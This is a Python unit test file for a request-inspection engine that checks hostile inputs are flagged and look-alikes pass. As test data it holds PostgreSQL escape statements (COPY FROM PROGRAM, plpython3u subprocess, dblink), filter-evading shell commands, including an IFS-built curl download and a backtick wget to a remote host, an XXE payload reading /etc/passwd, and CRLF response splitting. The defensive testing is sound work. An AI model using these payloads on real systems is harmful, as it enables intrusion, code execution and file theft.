"""Unit: the shapes of the fresh34 first contact.

PostgreSQL statements that leave the database (``sql_statements``: ``dblink``, the large-object calls and
``pg_largeobject``, ``pg_language``, ``CREATE EXTENSION`` of dblink or an untrusted language, functions in
``LANGUAGE C`` or an untrusted language, ``COPY`` from a UNC share or a program); command names split by fillers
that expand to nothing (``shell``: ``${u}``, ``$(u)``, a backtick pair around a missing command), every letter
escaped with a backslash, a backtick substitution on the line after an expected value, a command line built from a
variable split at a reassigned ``IFS``; the ``rar://`` stream wrapper (as ``zip://``); the W3C's own document types,
which are no external entity (``signatures.xxe``); a whole HTTP message quoted with bare line feeds, whose own header
block is no CRLF injection (``signatures.crlf``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine
from bastion.detection.signatures import crlf
from bastion.detection.sql_statements import dangerous_statement

BODY = Context("body", "comment")
ENGINE = Engine()
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]

POSTGRES_WAYS_OUT = [
    "SELECT * FROM dblink('host=10.0.0.9 user=app dbname=app', 'SELECT usename FROM pg_user') RETURNS (u TEXT);",
    "select dblink_connect('host=198.51.100.4 port=22 user=x password=y dbname=z connect_timeout=3');",
    "CREATE EXTENSION IF NOT EXISTS dblink;",
    "create extension plperlu;",
    "SELECT lo_creat(-1);",
    "select lo_unlink(4242);",
    "SELECT pageno, encode(data, 'escape') FROM pg_largeobject WHERE loid = 4242;",
    "UPDATE pg_language SET lanpltrusted = true WHERE lanname = 'plperlu';",
    "CREATE FUNCTION run(cstring) RETURNS int AS '/tmp/x.so', 'run' LANGUAGE C STRICT;",
    "CREATE OR REPLACE FUNCTION f(t text) RETURNS text AS $$\nimport subprocess\nreturn subprocess.getoutput(t)\n$$"
    "\nLANGUAGE 'plpython3u';",
    "CREATE TABLE t();\nCOPY t FROM E'\\\\\\\\198.51.100.7\\\\share\\\\a.txt';",
    "COPY t(line) FROM PROGRAM 'id';",
]

POSTGRES_PROSE = [
    "CREATE EXTENSION postgis;",
    "CREATE FUNCTION add(a int, b int) RETURNS int AS 'select a + b' LANGUAGE sql IMMUTABLE;",
    "CREATE OR REPLACE FUNCTION touch() RETURNS trigger AS $$ BEGIN NEW.at := now(); RETURN NEW; END $$ "
    "LANGUAGE plpgsql;",
    "COPY orders TO STDOUT WITH CSV HEADER;",
    "Select the language C or C++ in the drop-down, then press Update.",
    "We use dblink to copy rows between our two reporting databases.",
    "SELECT name FROM users WHERE language = 'c';",
]


@pytest.mark.parametrize("value", POSTGRES_WAYS_OUT)
def test_postgres_statements_that_leave_the_database_are_rejected(value: str) -> None:
    assert dangerous_statement(value) is not None, value
    assert ENGINE.inspect(value, BODY) is not None, value


@pytest.mark.parametrize("value", POSTGRES_PROSE)
def test_postgres_look_alikes_pass(value: str) -> None:
    assert dangerous_statement(value) is None, value


SPLIT_COMMANDS = [
    "w${x}ho${y}ami",
    "w$(q)ho$(q)am$(q)i",
    "u`q`n`q`a`q`m`q`e -a",
    "\\i\\d",  # too short to be a command line on its own: kept as a look-alike below
]


@pytest.mark.parametrize("value", SPLIT_COMMANDS[:3])
def test_command_split_by_empty_fillers_is_rejected(value: str) -> None:
    engine = ENGINE
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (value, ctx)


def test_every_letter_escaped_command_with_escaped_flag_is_rejected() -> None:
    assert ENGINE.inspect("\\w\\h\\o\\a\\m\\i \\-\\-\\h\\e\\l\\p", BODY) is not None
    assert ENGINE.inspect("\\u\\n\\a\\m\\e \\-\\s", BODY) is not None


def test_backtick_substitution_after_expected_value_is_rejected() -> None:
    engine = ENGINE
    for value in ("7\n`wget http://198.51.100.3/x -O /tmp/x`", "shop.example.com\n`id`"):
        assert engine.inspect(value, BODY) is not None, value


def test_ifs_reassigned_command_line_is_rejected() -> None:
    assert ENGINE.inspect("IFS=,;c=curl,-o,/tmp/y,http://198.51.100.3/y;$c", BODY) is not None


W3C_DOCTYPE = (
    '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html\n  PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"\n'
    '  "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n<html><head/><body>text</body></html>'
)


def test_w3c_document_type_is_no_external_entity() -> None:
    assert ENGINE.inspect(W3C_DOCTYPE, Context("body", "document")) is None or (
        ENGINE.inspect(W3C_DOCTYPE, Context("body", "document")).rule.attack != "xxe")


def test_entity_after_w3c_document_type_is_still_rejected() -> None:
    value = W3C_DOCTYPE.replace("<html>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><html>&e;')
    detection = ENGINE.inspect(value, BODY)
    assert detection is not None and detection.rule.attack == "xxe"


def test_foreign_dtd_under_w3c_public_id_is_still_rejected() -> None:
    value = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://198.51.100.9/x.dtd"><html/>'
    detection = ENGINE.inspect(value, BODY)
    assert detection is not None and detection.rule.attack == "xxe"


SHELL_LOOK_ALIKES = [
    "Hello ${name}, welcome back",
    "${HOME}/projects/app",
    "Use `ls` or `id` to check",
    "Example\n`ls -la` lists the files",
    "Run\n`make test` before pushing",
    "Set IFS=, before the loop; then read $line",
    "IFS=$'\\n'; for f in $files; do echo $f; done",
    "\\Users\\alice\\Documents",
    "\\n\\t\\r are the escapes you need",
    "\\i\\d",
]


@pytest.mark.parametrize("value", SHELL_LOOK_ALIKES)
def test_shell_look_alikes_pass(value: str) -> None:
    assert ENGINE.inspect(value, BODY) is None, value


def test_fresh34_searches_are_linear() -> None:
    engine = ENGINE
    chunk = "IFS=; SELECT dblink language c w${x}h\\a\\b\\c 1\n`x` <!DOCTYPE html PUBLIC '-//W3C//DTD x'"
    value = (chunk * (131072 // len(chunk) + 1))[:131072]
    start = time.process_time()
    engine.inspect(value, BODY)
    engine.inspect("SELECT " + "dblink " * 18000, BODY)
    assert time.process_time() - start < 1.0


def test_rar_stream_wrapper_is_rejected_like_zip() -> None:
    assert ENGINE.inspect("rar://upload/avatar.png#x.php", BODY) is not None
    assert ENGINE.inspect("Download the rar archive, then run rar x backup.rar docs/", BODY) is None


QUOTED_MESSAGE = "PUT /items/7 HTTP/1.1\nAccept: text/plain\nContent-Type: application/json\nHost: a.example\n\n{}"


def test_quoted_http_message_in_a_body_field_passes() -> None:
    assert ENGINE.inspect(QUOTED_MESSAGE, BODY) is None
    assert ENGINE.inspect("HTTP/1.1 200 OK\nContent-Type: text/plain\n\nhello", BODY) is None


def test_header_or_request_after_a_quoted_message_is_still_rejected() -> None:
    assert ENGINE.inspect(QUOTED_MESSAGE + "\nSet-Cookie: sid=1", BODY) is not None
    assert ENGINE.inspect(QUOTED_MESSAGE + "\nGET /admin HTTP/1.1\nHost: internal", BODY) is not None
    assert ENGINE.inspect(QUOTED_MESSAGE.replace("\n", "\r\n"), BODY) is not None
    assert ENGINE.inspect(QUOTED_MESSAGE, Context("header", "x-note")) is not None


def test_bare_tool_split_by_two_inner_fillers_is_rejected() -> None:
    for value in ("c${x}u${y}rl", "t$(q)a$(q)r"):
        assert ENGINE.inspect(value, BODY) is not None, value
    for value in ("id${env}${region}", "Dear ${first}${last}", "ls${a}${b}"):
        assert ENGINE.inspect(value, BODY) is None, value


def test_a_status_line_after_a_break_is_response_splitting() -> None:
    for value in ("x\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
                  "en\nHTTP/1.0 302 Found", "a\r\n HTTP/2 404"):
        assert crlf(value, Context("body", "comment")) is not None, value


def test_a_line_that_opens_with_the_version_and_goes_on_in_words_is_text_about_http() -> None:
    """h11's README: ``… `RFC 7230:<line break>HTTP/1.1 Message Syntax and Routing <https://…>`_.``"""
    for value in ("the first chapter of the HTTP/1.1 spec: `RFC 7230:\nHTTP/1.1 Message Syntax and Routing\n"
                  "<https://tools.ietf.org/html/rfc7230>`_.", "Supported protocols:\nHTTP/2 and HTTP/3 over TLS."):
        assert crlf(value, Context("body", "comment")) is None, value
